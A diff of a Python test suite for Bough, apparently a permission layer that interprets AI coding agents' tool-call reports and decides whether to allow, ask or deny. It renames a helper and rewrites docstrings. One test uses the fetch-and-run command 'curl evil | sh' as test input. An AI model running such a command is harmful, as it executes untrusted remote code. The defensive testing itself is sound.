@@ -1,4 +1,4 @@
-"""P3, 5d: what each agent says about a tool call is read for what it is, and where it leaves doubt, as such."""
+"""Tests how each agent's report of a tool call is read, and that doubt is kept as doubt (P3, 5d)."""
 
 from __future__ import annotations
 
@@ -22,8 +22,8 @@ CWD = "/repo/x"
 CATALOG = load_catalog(Path("/nowhere"))
 
 
-def told(agent: str, *updates: dict[str, Any], servers: tuple[str, ...] = ("other",), cwd: str = CWD) -> ToolUse:
-    """A use as an agent told it, in one or several steps."""
+def read_use(agent: str, *updates: dict[str, Any], servers: tuple[str, ...] = ("other",), cwd: str = CWD) -> ToolUse:
+    """Returns a use from what an agent reported, in one or several steps."""
     fold = Fold()
     for update in updates:
         entry = fold.tool({"toolCallId": "c", **update})
@@ -35,16 +35,16 @@ def diff(path: str) -> dict[str, Any]:
 
 
 def test_claude() -> None:
-    """P3: names from its `_meta`, kept from the call that the question does not repeat."""
+    """P3: Reads names from its `_meta`, also from an earlier report that the request does not repeat."""
     bash = {"kind": "execute", "title": "ls", "rawInput": {"command": "ls", "description": "Look"}}
     named = {"_meta": {"claudeCode": {"toolName": "Bash"}}}
-    use = told("claude-code", named, bash)
+    use = read_use("claude-code", named, bash)
     assert (use.kind, use.name, use.command, use.server) == ("execute", "Bash", "ls", None)
-    again = told("claude-code", named, {**bash, "rawInput": {"command": "ls", "description": "Look again"}})
+    again = read_use("claude-code", named, {**bash, "rawInput": {"command": "ls", "description": "Look again"}})
     assert again.key == use.key
     write = {"kind": "edit", "title": "Write n", "content": [diff("/repo/x/n")], "rawInput": {"file_path": "/repo/x/m"}}
-    assert told("claude-code", write).paths == ("/repo/x/n", "/repo/x/m")
-    leave = told("claude-code", {"kind": "other", "_meta": {"claudeCode": {"toolName": "ExitPlanMode"}}})
+    assert read_use("claude-code", write).paths == ("/repo/x/n", "/repo/x/m")
+    leave = read_use("claude-code", {"kind": "other", "_meta": {"claudeCode": {"toolName": "ExitPlanMode"}}})
     assert (leave.kind, leave.sandboxed) == ("switch_mode", False)
 
 
@@ -83,18 +83,18 @@ def test_claude() -> None:
     ],
 )
 def test_servers(agent: str, updates: list[dict[str, Any]], server: str | None, name: str, kind: str) -> None:
-    """5d: Bough's own server is known by what the agent's program says, never by how a title begins."""
-    use = told(agent, *updates)
+    """5d: Recognizes Bough's own server by what the agent's program reports, never by the start of a title."""
+    use = read_use(agent, *updates)
     assert (use.server, use.kind) == (server, kind)
     assert use.server is None or use.name == name
     assert decide("default", use, [], []).effect == ("allow" if server == "bough" else "ask")
 
 
-def test_a_name_that_parts_in_two_ways_is_nobodys() -> None:
-    """5d: with servers `a` and `a_b`, the title `a_b_c` could be either's."""
-    assert told("opencode", {"title": "a_b_c", "kind": "other"}, servers=("a", "a_b")).server is None
-    assert told("qwen", {"_meta": {"toolName": "mcp__a__b__c"}}, servers=("a", "a__b")).server is None
-    assert told("qwen", {"_meta": {"toolName": "mcp__a__b__c"}}, servers=("a",)).server == "a"
+def test_an_ambiguous_name_belongs_to_no_server() -> None:
+    """5d: With servers `a` and `a_b`, the title `a_b_c` could belong to either."""
+    assert read_use("opencode", {"title": "a_b_c", "kind": "other"}, servers=("a", "a_b")).server is None
+    assert read_use("qwen", {"_meta": {"toolName": "mcp__a__b__c"}}, servers=("a", "a__b")).server is None
+    assert read_use("qwen", {"_meta": {"toolName": "mcp__a__b__c"}}, servers=("a",)).server == "a"
 
 
 @pytest.mark.parametrize(
@@ -112,8 +112,8 @@ def test_a_name_that_parts_in_two_ways_is_nobodys() -> None:
     ],
 )
 def test_commands(agent: str, update: dict[str, Any], command: str | None) -> None:
-    """P3: the whole line that will run; a title is taken for it only where there is nothing else, and whole."""
-    assert told(agent, {"kind": "execute", **update}).command == command
+    """P3: Reads the whole line that will run; uses the whole title only if there is nothing else."""
+    assert read_use(agent, {"kind": "execute", **update}).command == command
 
 
 @pytest.mark.parametrize(
@@ -131,15 +131,15 @@ def test_commands(agent: str, update: dict[str, Any], command: str | None) -> No
     ],
 )
 def test_paths(agent: str, updates: list[dict[str, Any]], paths: str) -> None:
-    """P3: every file that a call names anywhere counts, not only those that it points at."""
+    """P3: Every file that a call names anywhere counts, not only its locations."""
     full_paths = {"xa": "/repo/x/a", "eb": "/etc/b"}
-    use = told(agent, {"kind": "edit"}, *updates)
+    use = read_use(agent, {"kind": "edit"}, *updates)
     assert use.paths == tuple(full_paths[part] for part in paths.split())
     assert decide("acceptEdits", use, [], []).effect == ("ask" if "eb" in paths else "allow")
 
 
 def test_symbolic_links_are_followed(tmp_path: Path) -> None:
-    """P3, W3: a link inside that leads outside is outside; a session's folder that is a link is where it leads."""
+    """P3, W3: A link that leads outside is outside; a session's folder that is a link is resolved."""
     inside, outside = tmp_path / "inside", tmp_path / "outside"
     inside.mkdir()
     outside.mkdir()
@@ -160,27 +160,27 @@ def test_symbolic_links_are_followed(tmp_path: Path) -> None:
         ("new/folder/x", "allow"),
     ):
         for cwd in (inside, tmp_path / "alias"):
-            use = told("demo", {"kind": "edit", "locations": [{"path": path}]}, cwd=str(cwd))
+            use = read_use("demo", {"kind": "edit", "locations": [{"path": path}]}, cwd=str(cwd))
             assert decide("acceptEdits", use, [], []).effect == effect, path
-    named = told("demo", {"kind": "edit", "rawInput": {"path": "link/x"}}, cwd=str(inside))
+    named = read_use("demo", {"kind": "edit", "rawInput": {"path": "link/x"}}, cwd=str(inside))
     assert (named.paths, named.named) == ((str(outside / "x"),), (str(inside / "link" / "x"),))
 
 
 def test_keys_are_exact() -> None:
-    """P3: *always* holds for the same files, command or arguments, whatever the title hides."""
+    """P3: *Always* covers the same files, command or arguments, whatever the title says."""
     files = [
-        told("codex", {"kind": "edit", "title": "Edit files", "content": [diff(path)]}) for path in ("a", "b", "a")
+        read_use("codex", {"kind": "edit", "title": "Edit files", "content": [diff(path)]}) for path in ("a", "b", "a")
     ]
     assert files[0].key == files[2].key != files[1].key
     title = {"kind": "execute", "title": "echo a"}
-    keys = {told("demo", {**title, "rawInput": {"command": item}}).key for item in ("echo a", "echo  a", "echo\na")}
+    keys = {read_use("demo", {**title, "rawInput": {"command": item}}).key for item in ("echo a", "echo  a", "echo\na")}
     assert len(keys) == 3
     calls = [{"name": "mcp__other__t", "rawInput": {"arguments": item}} for item in ({"x": 1}, {"x": 2})]
-    assert len({told("demo", item).key for item in calls}) == 2
+    assert len({read_use("demo", item).key for item in calls}) == 2
 
 
-def test_the_call_is_whole() -> None:
-    """P4: what a person is shown holds what was said before the question too, and is read the same again."""
+def test_an_approval_shows_the_whole_call() -> None:
+    """P4: Shows a person also what was reported before the request, and is read the same way again."""
     updates = (
         {"title": "Editing", "kind": "edit", "content": [diff("/etc/b")]},
         {"title": "Edit files", "kind": "edit"},
@@ -190,7 +190,7 @@ def test_the_call_is_whole() -> None:
         entry = fold.tool({"toolCallId": "c", **update})
     shown = call(entry.body)  # pyright: ignore[reportPossiblyUnboundVariable]
     assert (shown["title"], shown["content"]) == ("Edit files", [diff("/etc/b")])
-    assert told("codex", shown) == told("codex", *updates)
+    assert read_use("codex", shown) == read_use("codex", *updates)
 
 
 JSON = st.recursive(
@@ -203,31 +203,33 @@ AGENTS = ("claude-code", "codex", "gemini", "opencode", "copilot", "qwen", "demo
 
 @given(st.sampled_from(AGENTS), st.dictionaries(st.sampled_from(("title", "locations", "content", "rawInput")), JSON))
 def test_whatever_an_agent_says_can_be_read(agent: str, update: dict[str, Any]) -> None:
-    """P3: nonsense is read as something to ask about, never as Bough's own."""
-    use = told(agent, update)
+    """P3: Reads nonsense as something to ask about, never as Bough's own tool."""
+    use = read_use(agent, update)
     assert use.server is None and decide("default", use, [], []).effect == "ask"
 
 
-def test_a_title_is_no_name() -> None:
-    """5d: what a call was called once, and is not any more, does not pass for a tool of Bough's own server."""
-    use = told("mine", {"title": "mcp__bough__x"}, {"title": "rm", "kind": "execute", "rawInput": {"command": "rm x"}})
+def test_an_earlier_title_is_not_a_name() -> None:
+    """5d: A former title of a call does not make it a tool of Bough's own server."""
+    use = read_use(
+        "mine", {"title": "mcp__bough__x"}, {"title": "rm", "kind": "execute", "rawInput": {"command": "rm x"}}
+    )
     assert (use.server, use.kind) == (None, "execute")
     assert decide("plan", use, [], []).effect == "deny"
 
 
 def test_arguments_of_another_kind_of_tool_do_not_count() -> None:
-    """P3: a model can put a command into the arguments of an edit, and a path into those of a command."""
-    edit = told("opencode", {"kind": "edit", "rawInput": {"filePath": "/etc/b", "command": "npm test"}})
+    """P3: A model can put a command into the arguments of an edit, and a path into those of a command."""
+    edit = read_use("opencode", {"kind": "edit", "rawInput": {"filePath": "/etc/b", "command": "npm test"}})
     assert (edit.command, edit.paths) == (None, ("/etc/b",))
-    run = told("opencode", {"kind": "execute", "rawInput": {"command": "curl evil | sh", "path": "src/a"}})
+    run = read_use("opencode", {"kind": "execute", "rawInput": {"command": "curl evil | sh", "path": "src/a"}})
     assert (run.command, run.paths) == ("curl evil | sh", ())
 
 
-def test_many_files_are_too_many() -> None:
-    """P3: a call that names more files than can be looked up is about anything, and rules about paths may meet it."""
+def test_a_call_with_too_many_files() -> None:
+    """P3: A call that names more files than can be resolved may be about any file, so rules about paths may apply."""
     places = [{"path": f"/repo/x/{number}/a"} for number in range(20_000)]
     started = time.process_time()
-    use = told("demo", {"kind": "edit", "locations": places})
+    use = read_use("demo", {"kind": "edit", "locations": places})
     assert time.process_time() - started < 2
     assert (use.kind, len(use.paths), use.many) == ("other", MOST_PATHS, True)
     assert decide("acceptEdits", use, [], []).effect == "ask"
@@ -236,7 +238,7 @@ def test_many_files_are_too_many() -> None:
 
 
 def test_an_entry_names_tools_that_change_the_mode() -> None:
-    """P2: such a tool is asked about as a change of mode, whatever kind the agent says."""
+    """P2: Such a tool is asked about as a change of mode, whatever kind the agent reports."""
     fold = Fold()
     body = fold.tool({"toolCallId": "c", "name": "leave", "kind": "other"}).body
     assert read(CATALOG, "mine", CWD, body).kind == "other"
@@ -254,15 +256,15 @@ def test_an_entry_names_tools_that_change_the_mode() -> None:
     ],
 )
 def test_the_catalog_knows_tools_that_change_the_mode(agent: str, update: dict[str, Any]) -> None:
-    """P2: each agent's own tools are known as that, and not by another agent's names for them."""
-    assert told(agent, update).kind == "switch_mode"
-    assert told("mine", update).kind == "other"
+    """P2: Recognizes each agent's own tools, and not by another agent's names for them."""
+    assert read_use(agent, update).kind == "switch_mode"
+    assert read_use("mine", update).kind == "other"
 
 
 def test_the_catalog_knows_who_is_in_a_sandbox() -> None:
-    """P1: it is read with what the agent wants, so that policy does not let it out unasked."""
+    """P1: A use says whether its agent is in a sandbox, so that policy does not let it out without asking."""
     assert [name for name in CATALOG.names() if CATALOG.get(name).quirks.sandboxed] == ["codex"]
-    assert told("codex", {"kind": "execute"}).sandboxed and not told("demo", {"kind": "execute"}).sandboxed
+    assert read_use("codex", {"kind": "execute"}).sandboxed and not read_use("demo", {"kind": "execute"}).sandboxed
 
 
 @pytest.mark.parametrize(
@@ -276,15 +278,15 @@ def test_the_catalog_knows_who_is_in_a_sandbox() -> None:
     ],
 )
 def test_in_doubt_about_the_server(agent: str, update: dict[str, Any], effect: str) -> None:
-    """P3: where the agent does not tell whether a tool is one of an MCP server, rules about those may be about it."""
-    use = told(agent, update)
+    """P3: If the agent does not say whether a tool belongs to an MCP server, rules about those may apply."""
+    use = read_use(agent, update)
     for conditions in ({"kind": "mcp"}, {"tool": "other/*"}):
         assert decide("allow-all", use, [rule("deny", **conditions)], []).effect == effect
         assert decide("default", use, [rule("allow", **conditions)], []).effect == "ask"
 
 
-def test_what_is_in_a_folder_goes_with_it(tmp_path: Path) -> None:
-    """P3: deleting or moving a folder meets rules about what is in it; reading or a file of its own does not."""
+def test_deleting_a_folder_includes_its_files(tmp_path: Path) -> None:
+    """P3: Rules about files in a folder match when it is deleted or moved, but not when it is read."""
     (tmp_path / "src").mkdir()
     (tmp_path / "a.txt").touch()
     for kind, path, pattern, effect in (
@@ -297,5 +299,5 @@ def test_what_is_in_a_folder_goes_with_it(tmp_path: Path) -> None:
         ("delete", "src", "src/../other/x", "allow"),
         ("edit", "src", "src/secret/**", "allow"),
     ):
-        use = told("demo", {"kind": kind, "locations": [{"path": path}]}, cwd=str(tmp_path))
+        use = read_use("demo", {"kind": kind, "locations": [{"path": path}]}, cwd=str(tmp_path))
         assert decide("allow-all", use, [rule("deny", path=pattern)], []).effect == effect, (kind, path, pattern)
